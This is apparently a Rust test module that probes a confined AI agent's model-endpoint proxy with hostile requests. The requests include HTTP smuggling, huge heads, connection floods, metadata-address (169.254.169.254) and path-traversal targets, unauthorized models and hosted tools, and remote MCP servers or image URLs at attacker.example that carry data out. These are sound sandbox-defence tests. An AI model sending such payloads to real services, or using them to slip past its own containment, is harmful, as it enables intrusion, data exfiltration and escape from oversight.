//! Attacks on the door by the model endpoint: malformed HTTP, other hosts and paths, and requests that would make the
//! provider act or fetch.

use std::fs::{self, File};
use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use demo::report::Layer;
use nix::sched::{CloneFlags, setns};
use serde_json::{Value, json};

use crate::credentials::find_key;
use crate::probe::{Attempts, EVERYWHERE, KILLED, Probe, Verdict, short};

/// How long an answer may take.
const WAIT: Duration = Duration::from_secs(20);
/// Most bytes of an answer that are read.
const MAX_ANSWER: u64 = 256 * 1024;

const fn probe(id: &'static str, title: &'static str, attempt: &'static str, run: fn() -> Verdict) -> Probe {
    Probe { id, title, attempt, layer: Layer::Door, places: EVERYWHERE, deaths: KILLED, seconds: 240, run }
}

pub(crate) const PROBES: &[Probe] = &[
    probe(
        "smuggling",
        "HTTP smuggling",
        "two lengths, a length and chunks, folded and bare-LF heads",
        smuggling,
    ),
    probe("malformed-bodies", "malformed bodies", "broken, doubled, deep and endless JSON", malformed),
    probe("huge-heads", "huge heads", "a head of 8 MiB, 10,000 fields, a path of 1 MiB", huge_heads),
    probe(
        "endless-body",
        "endless body",
        "announces a terabyte and sends for as long as it is read",
        endless,
    ),
    probe(
        "connections",
        "1000 connections",
        "opens 1000 connections that say half a request, then asks on a new one",
        many,
    ),
    probe(
        "other-hosts",
        "other hosts",
        "absolute targets, CONNECT, Host and forwarding fields of other hosts",
        other_hosts,
    ),
    probe(
        "other-paths",
        "other paths",
        "files, batches and administration of the provider, also by traversal",
        other_paths,
    ),
    probe("other-models", "other models", "models that the agent was not granted", other_models),
    probe(
        "hosted-tools",
        "hosted tools",
        "web search, code execution, computer use and files at the provider",
        hosted_tools,
    ),
    probe(
        "remote-mcp",
        "remote tool servers",
        "lets the provider call a tool server on the internet",
        remote_mcp,
    ),
    probe(
        "remote-urls",
        "remote addresses",
        "lets the provider fetch images and documents by address",
        remote_urls,
    ),
    probe(
        "foreign-ids",
        "foreign ids",
        "names files, responses and containers of others at the provider",
        foreign_ids,
    ),
    probe(
        "unknown-fields",
        "unknown fields",
        "fields that no list knows, and metadata that carries data out",
        unknown_fields,
    ),
    probe(
        "key-reflection",
        "the provider's key",
        "looks for the credential in answers, and sends its own",
        key_reflection,
    ),
];

/// Where the model endpoint is.
pub(crate) fn endpoint() -> SocketAddr {
    let named = std::env::var("LAZARET_MODEL_URL").unwrap_or_default();
    let address = named.strip_prefix("http://").unwrap_or_default().trim_end_matches('/').parse();
    address.unwrap_or(SocketAddr::from(([127, 0, 0, 1], 8181)))
}

fn model() -> String {
    std::env::var("LAZARET_MODEL").unwrap_or_else(|_| "claude-sonnet-4-5".to_owned())
}

/// What came back: the statuses of all answers on the connection, and the bytes.
pub(crate) struct Answer {
    statuses: Vec<u16>,
    bytes: Vec<u8>,
}

impl Answer {
    pub(crate) fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    /// The reason that a refusal gives.
    fn reason(&self) -> String {
        let text = self.text();
        let body = text.split_once("\r\n\r\n").map(|(_, body)| body).unwrap_or_default();
        let object = body.find('{').and_then(|at| body.get(at..)).unwrap_or_default();
        let mut values = serde_json::Deserializer::from_str(object).into_iter::<Value>();
        let value = values.next().and_then(Result::ok).unwrap_or_default();
        let message = value.pointer("/error/message").and_then(Value::as_str).unwrap_or_default();
        message.chars().take(90).collect()
    }
}

/// Connects to the endpoint, also from outside the container, in whose network it is: root of the guest goes there.
fn connect() -> io::Result<TcpStream> {
    connect_to(endpoint())
}

/// The same to another endpoint.
pub(crate) fn connect_to(endpoint: SocketAddr) -> io::Result<TcpStream> {
    let here = TcpStream::connect_timeout(&endpoint, WAIT);
    let stream = match here {
        Err(_) if enter_container_network().is_ok() => TcpStream::connect_timeout(&endpoint, WAIT),
        here => here,
    }?;
    stream.set_read_timeout(Some(WAIT))?;
    stream.set_write_timeout(Some(WAIT))?;
    Ok(stream)
}

/// Enters the network namespace of the container, if that is another than this process's.
fn enter_container_network() -> io::Result<()> {
    let own = fs::read_link("/proc/self/ns/net")?;
    for process in fs::read_dir("/proc")?.flatten() {
        let namespace = process.path().join("ns/net");
        if fs::read_link(&namespace).is_ok_and(|other| other != own) {
            return crate::probe::io(setns(File::open(namespace)?, CloneFlags::CLONE_NEWNET));
        }
    }
    Err(io::ErrorKind::NotFound.into())
}

/// Sends bytes and reads what comes back until the end. A connection that is cut while sending may have answered.
fn exchange(bytes: &[u8]) -> io::Result<Answer> {
    exchange_on(connect()?, bytes)
}

pub(crate) fn exchange_on(mut stream: TcpStream, bytes: &[u8]) -> io::Result<Answer> {
    let sent = stream.write_all(bytes);
    let mut answer = Vec::new();
    let read = (&mut stream).take(MAX_ANSWER).read_to_end(&mut answer);
    if answer.is_empty() {
        sent?;
        read?;
    }
    let text = String::from_utf8_lossy(&answer);
    let statuses =
        text.match_indices("HTTP/1.").filter_map(|(at, _)| text.get(at + 9..at + 12)?.parse().ok()).collect();
    Ok(Answer { statuses, bytes: answer })
}

fn request(method: &str, target: &str, fields: &[(&str, &str)], body: &str) -> Vec<u8> {
    let mut text = format!("{method} {target} HTTP/1.1\r\n");
    let has = |name: &str| fields.iter().any(|(n, _)| n.eq_ignore_ascii_case(name));
    if !has("host") {
        text.push_str(&format!("host: {}\r\n", endpoint()));
    }
    if !has("content-length") && !has("transfer-encoding") {
        text.push_str(&format!("content-length: {}\r\n", body.len()));
    }
    for (name, value) in fields {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    text.push_str(
        "content-type: application/json\r\nanthropic-version: 2023-06-01\r\nconnection: close\r\n\r\n",
    );
    text.push_str(body);
    text.into_bytes()
}

/// A plain request that the agent was granted, with more fields in its body.
fn body(more: &Value) -> String {
    let mut body =
        json!({"model": model(), "max_tokens": 16, "messages": [{"role": "user", "content": "say hello"}]});
    if let (Some(map), Some(more)) = (body.as_object_mut(), more.as_object()) {
        map.extend(more.clone());
    }
    body.to_string()
}

fn post(path: &str, body: &str) -> Vec<u8> {
    request("POST", path, &[], body)
}

/// Sends each request; an answer of success is a breach. Says so when nobody listens, or when the plain request,
/// which must work, doesn't.
fn refused(requests: Vec<(&str, Vec<u8>)>) -> Verdict {
    let control = match exchange(&post("/v1/messages", &body(&json!({})))) {
        Ok(answer) if answer.statuses == [200] => "",
        Ok(_refused) => " (the plain request is refused too)",
        Err(e) => {
            return Verdict::not_applicable(format!("no model endpoint at {}: {}", endpoint(), short(&e)));
        }
    };
    let mut attempts = Attempts::default();
    for (name, bytes) in requests {
        match exchange(&bytes) {
            Ok(answer) if answer.statuses.iter().any(|s| (200..400).contains(s)) => {
                attempts.worked(name, format!("answered with {:?}", answer.statuses));
            }
            Ok(answer) if answer.statuses.is_empty() => attempts.stopped(name, "cut off"),
            Ok(answer) => {
                let status = answer.statuses.first().copied().unwrap_or_default();
                attempts.stopped(name, format!("{status} {}", answer.reason()).trim_end().to_owned());
            }
            Err(e) => attempts.stopped(name, format!("cut off ({})", short(&e))),
        }
    }
    let mut verdict = attempts.verdict("nothing was tried");
    verdict.evidence.push_str(control);
    verdict
}

fn smuggling() -> Verdict {
    let plain = body(&json!({}));
    let length = plain.len().to_string();
    let inner = String::from_utf8_lossy(&post("/v1/files", "{}")).into_owned();
    let chunks = format!("0\r\n\r\n{inner}");
    refused(vec![
        (
            "two lengths",
            request("POST", "/v1/messages", &[("content-length", &length), ("content-length", "0")], &plain),
        ),
        (
            "length and chunks",
            request(
                "POST",
                "/v1/messages",
                &[("content-length", "4"), ("transfer-encoding", "chunked")],
                &chunks,
            ),
        ),
        ("odd coding", request("POST", "/v1/messages", &[("transfer-encoding", "xchunked")], &chunks)),
        ("negative length", request("POST", "/v1/messages", &[("content-length", "-1")], &plain)),
        ("space before colon", request("POST", "/v1/messages", &[("content-length ", &length)], &plain)),
        (
            "bad chunk size",
            request(
                "POST",
                "/v1/messages",
                &[("transfer-encoding", "chunked")],
                "ffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
            ),
        ),
        ("null in the head", b"POST /v1/messages\0 HTTP/1.1\r\nhost: x\r\n\r\n".to_vec()),
        ("not HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello \r\n\r\n".to_vec()),
    ])
}

fn malformed() -> Verdict {
    let deep = format!("{}{}", "[".repeat(200_000), "]".repeat(200_000));
    let doubled = body(&json!({})).replacen('{', &format!("{{\"model\":\"{}\",", model()), 1);
    refused(vec![
        ("no JSON", post("/v1/messages", "hello")),
        ("cut JSON", post("/v1/messages", "{\"model\":")),
        ("an array", post("/v1/messages", "[]")),
        ("doubled key", post("/v1/messages", &doubled)),
        ("deep nesting", post("/v1/messages", &format!("{{\"messages\":{deep}}}"))),
        ("number out of range", post("/v1/messages", &body(&json!({})).replacen("16", "1e999", 1))),
        ("text after the end", post("/v1/messages", &(body(&json!({})) + "{}"))),
        ("no UTF-8", {
            let mut bytes = request("POST", "/v1/messages", &[("content-length", "4")], "");
            bytes.extend([b'"', 0xff, 0xfe, b'"']);
            bytes
        }),
        ("empty", post("/v1/messages", "")),
    ])
}

fn huge_heads() -> Verdict {
    let long = "x".repeat(8 << 20);
    let path = format!("/v1/{}", "a/".repeat(512 << 10));
    let many: Vec<(String, String)> = (0..10_000).map(|n| (format!("x-{n}"), n.to_string())).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
    let plain = body(&json!({}));
    refused(vec![
        ("8 MiB field", request("POST", "/v1/messages", &[("x-long", &long)], &plain)),
        ("10,000 fields", request("POST", "/v1/messages", &many, &plain)),
        ("1 MiB path", post(&path, &plain)),
    ])
}

fn endless() -> Verdict {
    let head = request("POST", "/v1/messages", &[("content-length", "1099511627776")], "{\"model\":\"");
    let mut stream = match connect() {
        Ok(stream) => stream,
        Err(e) => {
            return Verdict::not_applicable(format!("no model endpoint at {}: {}", endpoint(), short(&e)));
        }
    };
    let chunk = vec![b'x'; 256 << 10];
    let most = 256 << 20;
    let mut sent = 0;
    if stream.write_all(&head).is_ok() {
        while sent < most && stream.write_all(&chunk).is_ok() {
            sent += chunk.len();
        }
    }
    if sent >= most {
        return Verdict::breached(format!("{} MiB were taken, and more would be", sent >> 20));
    }
    Verdict::blocked(format!("cut off after {} MiB of 1,048,576", sent >> 20))
}

fn many() -> Verdict {
    if let Err(e) = connect() {
        return Verdict::not_applicable(format!("no model endpoint at {}: {}", endpoint(), short(&e)));
    }
    let mut open = Vec::new();
    let mut failed = 0;
    for _ in 0..1000 {
        // A full queue drops who knocks, so waiting long tells no more.
        let half = TcpStream::connect_timeout(&endpoint(), Duration::from_secs(1))
            .and_then(|mut s| s.write_all(b"POST /v1/messages HTTP/1.1\r\nhost: x\r\n").map(|()| s));
        match half {
            Ok(stream) => open.push(stream),
            Err(_refused) => failed += 1,
        }
        if failed > 5 {
            break;
        }
    }
    let held = open.len();
    drop(open);
    match exchange(&post("/v1/messages", &body(&json!({})))) {
        Ok(answer) if !answer.statuses.is_empty() => Verdict::blocked(format!(
            "{held} were taken and {failed} refused; afterwards a new request is answered with {:?}",
            answer.statuses
        )),
        Ok(_) => Verdict::breached("afterwards the door gives no answer"),
        Err(e) => Verdict::breached(format!("afterwards the door is gone: {}", short(&e))),
    }
}

fn other_hosts() -> Verdict {
    let plain = body(&json!({}));
    refused(vec![
        ("CONNECT", request("CONNECT", "169.254.169.254:80", &[], "")),
        ("absolute target", request("GET", "http://169.254.169.254/latest/meta-data/", &[], "")),
        ("absolute target of a provider", request("POST", "https://api.openai.com/v1/files", &[], &plain)),
        ("Host", request("POST", "/v1/files", &[("host", "api.openai.com")], &plain)),
        (
            "forwarding",
            request(
                "GET",
                "/",
                &[("x-forwarded-host", "169.254.169.254"), ("x-original-url", "/v1/files")],
                "",
            ),
        ),
        (
            "upgrade",
            request("GET", "/v1/messages", &[("upgrade", "h2c"), ("http2-settings", "AAMAAABk")], ""),
        ),
        ("@ in the target", request("GET", "//user@169.254.169.254/", &[], "")),
    ])
}

fn other_paths() -> Verdict {
    let plain = body(&json!({}));
    let mut requests: Vec<(&str, Vec<u8>)> = [
        "/v1/files",
        "/v1/messages/batches",
        "/v1/batches",
        "/v1/organizations/api_keys",
        "/v1/messages/../files",
        "/v1/messages/%2e%2e/files",
        "/v1/messages/..%2ffiles",
        "//v1/files",
        "/v1/messages;/../files",
        "/v1/messages%00",
        "/v1/embeddings",
        "/admin",
        "/",
    ]
    .into_iter()
    .map(|path| (path, post(path, &plain)))
    .collect();
    requests.push(("DELETE", request("DELETE", "/v1/messages", &[], "")));
    requests.push(("list of files", request("GET", "/v1/files", &[], "")));
    refused(requests)
}

fn other_models() -> Verdict {
    let of = |path: &str, name: &str| post(path, &body(&json!({ "model": name })));
    refused(vec![
        ("claude-opus-4-1", of("/v1/messages", "claude-opus-4-1")),
        ("gpt-5.5", of("/v1/chat/completions", "gpt-5.5")),
        ("other provider", of("/v1/messages", "openai/gpt-5.5")),
        ("path as name", of("/v1/messages", "../../v1/files")),
        ("empty", of("/v1/messages", "")),
        ("none", post("/v1/messages", &body(&json!({ "model": null })))),
    ])
}

fn with(more: &Value) -> Vec<u8> {
    post("/v1/messages", &body(more))
}

fn responses(more: &Value) -> Vec<u8> {
    let mut body = json!({"model": model(), "input": "say hello", "store": false});
    if let (Some(map), Some(more)) = (body.as_object_mut(), more.as_object()) {
        map.extend(more.clone());
    }
    post("/v1/responses", &body.to_string())
}

fn hosted_tools() -> Verdict {
    let anthropic = |kind: &str, name: &str| with(&json!({"tools": [{"type": kind, "name": name}]}));
    let openai = |tool: Value| responses(&json!({"tools": [tool]}));
    refused(vec![
        ("web search", anthropic("web_search_20250305", "web_search")),
        ("web fetch", anthropic("web_fetch_20250910", "web_fetch")),
        ("code execution", anthropic("code_execution_20250825", "code_execution")),
        ("a tool of tomorrow", anthropic("exfiltrate_20991231", "exfiltrate")),
        ("web search, OpenAI", openai(json!({"type": "web_search"}))),
        ("code interpreter", openai(json!({"type": "code_interpreter", "container": {"type": "auto"}}))),
        ("file search", openai(json!({"type": "file_search", "vector_store_ids": ["vs_1"]}))),
        ("image generation", openai(json!({"type": "image_generation"}))),
        ("web search options", post("/v1/chat/completions", &body(&json!({"web_search_options": {}})))),
    ])
}

fn remote_mcp() -> Verdict {
    let server = json!([{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]);
    let tool = json!([{"type": "mcp", "server_label": "x", "server_url": "https://attacker.example/mcp", "require_approval": "never"}]);
    refused(vec![
        ("Anthropic", with(&json!({"mcp_servers": server}))),
        ("OpenAI", responses(&json!({"tools": tool}))),
    ])
}

fn remote_urls() -> Verdict {
    let said = |content: Value| with(&json!({"messages": [{"role": "user", "content": [content]}]}));
    let url = "https://attacker.example/?q=secret";
    let input = json!([{"role": "user", "content": [{"type": "input_image", "image_url": url}]}]);
    let chat = json!([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}]);
    refused(vec![
        ("image", said(json!({"type": "image", "source": {"type": "url", "url": url}}))),
        ("document", said(json!({"type": "document", "source": {"type": "url", "url": url}}))),
        ("image, Responses", responses(&json!({ "input": input }))),
        ("image, Chat", post("/v1/chat/completions", &body(&json!({ "messages": chat })))),
    ])
}

fn foreign_ids() -> Verdict {
    let file = json!([{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]);
    let input = json!([{"role": "user", "content": [{"type": "input_file", "file_id": "file-1"}]}]);
    refused(vec![
        ("file", with(&json!({ "messages": file }))),
        ("container", with(&json!({"container": "container_1"}))),
        ("file, Responses", responses(&json!({ "input": input }))),
        ("previous response", responses(&json!({"previous_response_id": "resp_1"}))),
        ("conversation", responses(&json!({"conversation": "conv_1"}))),
        ("stored prompt", responses(&json!({"prompt": {"id": "pmpt_1"}}))),
        ("background", responses(&json!({"background": true}))),
        ("kept at the provider", responses(&json!({"store": true}))),
    ])
}

fn unknown_fields() -> Verdict {
    refused(vec![
        ("unknown field", with(&json!({"callback_url": "https://attacker.example"}))),
        ("unknown field, Responses", responses(&json!({"webhook": "https://attacker.example"}))),
        ("unknown field, Chat", post("/v1/chat/completions", &body(&json!({"notify": "x"})))),
        (
            "unknown block",
            with(&json!({"messages": [{"role": "user", "content": [{"type": "beacon", "to": "x"}]}]})),
        ),
        ("unknown role", with(&json!({"messages": [{"role": "operator", "content": "x"}]}))),
    ])
}

fn key_reflection() -> Verdict {
    let plain = body(&json!({}));
    let mut attempts = Attempts::default();
    for (name, fields) in [
        ("plain", &[][..]),
        ("own key", &[("x-api-key", "mine"), ("authorization", "Bearer mine")][..]),
        ("tracing", &[("x-debug", "1"), ("anthropic-beta", "echo-headers-2099-01-01")][..]),
    ] {
        match exchange(&request("POST", "/v1/messages", fields, &plain)) {
            Ok(answer) => match find_key(&answer.bytes) {
                Some(found) => attempts.worked(name, found),
                None => attempts.stopped(name, format!("{:?}, without a key", answer.statuses)),
            },
            Err(e) => {
                return Verdict::not_applicable(format!(
                    "no model endpoint at {}: {}",
                    endpoint(),
                    short(&e)
                ));
            }
        }
    }
    match exchange(&request("TRACE", "/v1/messages", &[("x-probe", "echo")], "")) {
        Ok(answer) if answer.text().contains("x-probe") => attempts.worked("TRACE", "it echoes the request"),
        Ok(answer) => attempts.stopped("TRACE", format!("{:?}", answer.statuses)),
        Err(e) => attempts.stopped("TRACE", short(&e)),
    }
    attempts.verdict("nothing was tried")
}
